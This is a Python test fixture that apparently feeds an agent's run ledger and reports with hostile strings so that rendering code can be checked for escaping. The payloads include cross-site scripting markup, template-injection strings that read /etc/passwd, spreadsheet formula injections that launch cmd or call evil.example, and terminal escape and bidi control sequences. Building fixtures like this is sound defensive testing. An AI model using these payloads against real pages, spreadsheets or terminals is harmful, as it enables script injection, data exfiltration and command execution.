"""Texts that try to become more than text: markup and script, formulas of spreadsheets, escapes of terminals.

Each is numbered, so that a test can find it again. `add_runs` writes them into every text of a ledger.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable
from contextlib import closing
from dataclasses import replace
from itertools import cycle, product
from pathlib import Path
from typing import Any

from agent.ledger.store import Ledger, NewCandidate, NewRun, Reservation
from agent.prompt.prompt_candidate import PromptCandidate
from agent.task.load import load_task
from agent.types import Completion, Demo, Message, Outcome, Prediction, Score, Task, Trial, Usage
from tests.toys import ask

_CODE = "alert({n})"
_MARKUP = (
    "<script>{c}</script>",
    "</script><script>{c}</script>",
    "<ScRiPt src=//evil.example/{n}.js></ScRiPt>",
    "<img src=x onerror={c}>",
    '"><img src=x onerror={c}>',
    "'><svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<iframe src='javascript:{c}'></iframe>",
    "<iframe srcdoc='<script>{c}</script>'></iframe>",
    "<a href='javascript:{c}'>go {n}</a>",
    "<a href='data:text/html,<script>{c}</script>'>go</a>",
    "<body onload={c}>",
    "<details open ontoggle={c}>",
    "<math><mtext><style><img src=x onerror={c}></style>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "</style><script>{c}</script>",
    "</title><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "</pre></td></tr></table><h1>owned {n}</h1>",
    "--><script>{c}</script><!--",
    "<!--<img src='--><img src=x onerror={c}>'>",
    "]]><script>{c}</script><![CDATA[",
    "<base href='//evil.example/{n}/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<link rel=stylesheet href='//evil.example/{n}.css'>",
    "<form action='//evil.example/{n}'><button>go</button></form>",
    "<object data='//evil.example/{n}'></object>",
    "<embed src='//evil.example/{n}.swf'>",
    "<video><source onerror={c}></video>",
    "<input autofocus onfocus={c}>",
    "<template><script>{c}</script></template>",
    "' onmouseover='{c}' x='",
    '" style="background:url(//evil.example/{n})" x="',
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;",
    "{{ cycler.__init__.__globals__ }} {n}",
    "{% include '/etc/passwd' %} {n}",
    "${7*7}`{c}`",
    "javascript:{c}//",
)
_AROUND = ("{}", "note {} end", "<b>{}")
_FORMULAS = tuple(
    sign + body
    for sign, body in product(
        "=+-@",
        (
            "HYPERLINK(\"http://evil.example/{n}\",\"go\")",
            "cmd|' /C calc {n}'!A0",
            "IMPORTXML(CONCAT(\"//evil.example/{n}\",A1),\"//a\")",
            "SUM({n},1)*cmd|'x'!A1",
            "WEBSERVICE(\"//evil.example/{n}\")",
        ),
    )
)  # fmt: skip
_CONTROLS = (
    *(f"\x1b[{code} ansi {{n}}" for code in ("2J", "31m", "1;1H", "?1049h", "6n", "0c", "8m", "200~", "3J", "s")),
    *(f"\x1b]{code}\x07 osc {{n}}" for code in ("0;owned", "52;c;cm0gLXJm", "8;;http://evil.example", "1337;File=:x")),
    *(f"\x1b{code} esc {{n}}" for code in ("c", "P+q544e\x1b\\", "_x\x1b\\", "^x\x1b\\", "#8", "(0", "7", "[!p")),
    *(f"{chr(code)}31m control {{n}}" for code in (*range(1, 9), 11, 12, *range(14, 32), 127)),
    *(f"{chr(code)}2J c1 {{n}}" for code in range(0x80, 0xA0)),
    *(f"{chr(code)}bidi {{n}}" for code in (0x200E, 0x202A, 0x202B, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x061C)),
    *("a{n}\u200bb", "a{n}\ufeffb", "a{n}\u2028b", "a{n}\u2029b", "a{n}\u00adb", "a{n}\U000e0041b"),
)


def _made() -> list[str]:
    shapes = [around.replace("{}", markup) for markup in _MARKUP for around in _AROUND]
    shapes += [*_FORMULAS, *(f"p{{n}} {control}" for control in _CONTROLS)]
    return [shape.replace("{c}", _CODE).replace("{n}", f"{n:03d}") for n, shape in enumerate(shapes)]


PAYLOADS: list[str] = _made()

TOML = """
name = "evil"
description = "Answer a question."
signature = "question -> answer"
instruction = "Answer."
slices = ["harbour"]

[[metrics]]
name = "exact_match"
"""
Pick = Callable[[], str]


def write_task(folder: Path) -> Task:
    """A task whose rows, ids and labels are payloads, 24 in each split."""
    folder.mkdir(parents=True)
    (folder / "task.toml").write_text(TOML, "utf-8")
    for start, split in enumerate(("train", "dev", "test")):
        texts = PAYLOADS[start::3]
        rows = [
            {
                "id": f"{split} {number} {texts[number]}",
                "question": " | ".join(texts[number::24]),
                "answer": texts[-number],
            }
            | {"harbour": texts[number % 4]}
            for number in range(24)
        ]
        (folder / f"{split}.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")
    return load_task(folder)


def add_runs(db: Path) -> None:
    """A search that has ended (`evil`) and one that failed (`evil-2`), in whose every text is a payload."""
    pick: Pick = cycle(PAYLOADS).__next__
    task = replace(write_task(Path("evil")), name=pick())
    with closing(Ledger(db)) as ledger:
        ledger.begin_run(NewRun("evil", task, pick(), pick(), 0, {}, {pick(): pick()}, options={"task": "evil"}))
        ids = [_candidate(ledger, task, number, pick) for number in range(60)]
        for candidate_id, value in ((ids[0], 0.0), (ids[1], 1.0)):
            for split, rows in (("dev", task.dev), ("test", task.test)):
                for row in rows:
                    prediction = Prediction({"answer": pick()}, pick(), pick())
                    scores = (Score(pick(), value, pick()),)
                    ledger.put_outcome("evil", split, Outcome(candidate_id, row.id, prediction, scores, value))
        asyncio.run(_call(ledger, ids[0], pick))
        ledger.end_run("evil", "complete", 1.0, result_of(ids[1], pick))
        ledger.begin_run(NewRun("evil-2", task, pick(), options={"command": pick(), "x": pick()}))
        ledger.end_run("evil-2", "failed", 1.0, {"kind": pick()}, error=pick())


def _candidate(ledger: Ledger, task: Task, number: int, pick: Pick) -> str:
    rejected = pick() if number % 10 == 9 else ""
    row = task.train[number % 24]
    demos = (Demo(row.id, dict(row.inputs), {"answer": pick()}, pick()),) * (number == 1)
    candidate = PromptCandidate("few-shot", "turns", PAYLOADS[4 * number], role=pick(), demos=demos)
    layout = (Message("system", pick()), Message("user", "{{question}}"))
    ledger.add_candidate("evil", NewCandidate(0, candidate.shown(), layout, pick(), None, pick(), rejected))
    if not rejected:
        state = "pruned" if number > 1 else "complete"
        ledger.put_trial("evil", Trial(number, 0, candidate.id, state, 24, 0.5, (0.2, 0.8), pick()))
    return candidate.id


async def _call(ledger: Ledger, candidate_id: str, pick: Pick) -> None:
    asked = Reservation("evil", "model", pick(), "k_evil", candidate_id, 1, ask(pick()), 0.0, 10)
    await ledger.settle("evil", await ledger.reserve(asked), Completion(pick(), "stop", Usage(7, 2), pick()), 0.5, 0.1)
    await ledger.commit()


def result_of(winner: str, pick: Pick) -> dict[str, Any]:
    side = {"mean": 0.5, "ci95": [0.2, 0.8], "n": 24, "unscored": 0}
    line = {"winner": side, "baseline": side, "diff": 0.1, "diff_ci95": [0.0, 0.2], "p_value": 0.5}
    judge = {"metric": pick(), "models": [pick()], "mode": pick(), "trusted": False, "why": pick()}
    scores = {"dev": 0.5, "test": 1.0, "dev_corrected": 0.4, "prompt_tokens": 5, "n_examples": 1}
    return {
        "run_id": "evil", "task": pick(), "status": "complete", "model": pick(), "seed": 0,
        "baseline": {"dev": 0.1, "test": 0.0},
        "winner": {"candidate_id": winner, "technique": pick(), "format": pick(), "instruction": pick(), **scores},
        "lift": {"diff": 1.0, "ci95": [0.5, 1.0], "p_value": 0.01, "wins": 24, "losses": 0, "ties": 0, "n": 24},
        "decision": "keep_baseline", "blocked": [pick(), pick()],
        "trials": {"complete": 2, "pruned": 0, "failed": 0},
        "calls": {"model": 1, "proposer": 0, "judge": 0, "cached": 0},
        "tokens": {"prompt": 1, "completion": 1}, "cost_usd": 0.5, "seconds": 61,
        "release": f"{pick()}\x1b\u202e", "ledger_head": pick(),
        "metrics": [{"metric": pick(), "field": pick(), "weight": 1.0, **line}],
        "slices": [{"slice": pick(), "groups": [{"value": pick(), **line}], "winner_gap": 0.1, "baseline_gap": 0.2}],
        "variety": [{"field": pick(), "winner": {"n": 6, "distinct_2": 0.5, "openings": 0.5}, "baseline": None}],
        "judges": [{**judge, "kappa": None, "ci95": None, "compared": 0, "turned": 0}],
        "preflight": {"why": pick(), "noise": None, "worth": True},
        "attribution": [
            {"part": part, "points": 1.0, "ci95": [0.5, 2.0], "how": "measured", "rows": 6} for part in PAYLOADS[::6]
        ],
        "pareto": [
            {"candidate_id": pick(), "dev": 0.5, "prompt_tokens": 5, "usd_per_1000": 1.0, "latency_s": 1.0}
            | {"chosen": True}
        ],
    }  # fmt: skip
